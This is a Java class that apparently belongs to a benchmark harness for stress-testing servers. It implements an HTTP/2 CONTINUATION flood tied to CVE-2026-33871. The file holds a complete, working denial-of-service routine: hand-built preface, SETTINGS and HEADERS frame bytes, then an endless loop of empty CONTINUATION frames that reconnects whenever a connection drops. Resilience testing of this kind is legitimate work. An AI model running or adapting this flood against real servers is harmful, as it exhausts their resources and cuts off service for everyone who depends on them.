package io.millrace.benchmarks.attack;

import io.vertx.core.buffer.Buffer;
import java.util.Optional;

/** Sends header blocks of HTTP/2 that never end (CVE-2026-33871). */
final class ContinuationFlood implements Attack {

  private static final int BATCH = 1000;
  private static final byte HEADERS = 1;
  private static final byte CONTINUATION = 9;

  @Override
  public String name() {
    return "continuations";
  }

  @Override
  public String tries() {
    return "a header block of HTTP/2 that continues in empty CONTINUATION frames and never ends";
  }

  @Override
  public void run(Attacker attacker) {
    // The preface, no settings, and the first three pseudo-headers of a block on stream 1.
    Buffer beginning =
        Buffer.buffer("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
            .appendBytes(new byte[] {0, 0, 0, 4, 0, 0, 0, 0, 0})
            .appendBytes(new byte[] {0, 0, 3, HEADERS, 0, 0, 0, 0, 1})
            .appendBytes(new byte[] {(byte) 0x82, (byte) 0x84, (byte) 0x86});
    Buffer frames = Buffer.buffer();
    for (int i = 0; i < BATCH; i++) {
      frames.appendBytes(new byte[] {0, 0, 0, CONTINUATION, 0, 0, 0, 0, 1});
    }
    while (attacker.goesOn()) {
      Optional<Line> line = attacker.open(Http2Answers::new);
      line.ifPresent(open -> attacker.send(open, beginning));
      while (line.filter(Line::isOpen).isPresent() && attacker.goesOn()) {
        attacker.send(line.get(), frames);
        attacker.answers().add("CONTINUATION sent", BATCH);
      }
    }
  }
}
